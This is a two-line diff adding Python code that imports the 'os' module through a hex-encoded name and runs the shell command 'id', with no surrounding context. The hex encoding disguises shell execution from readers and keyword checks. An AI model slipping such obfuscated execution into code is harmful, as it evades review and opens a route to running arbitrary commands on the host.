@@ -1,0 +1,2 @@
+m = __import__(bytes.fromhex('6f73').decode())
+m.system('id')
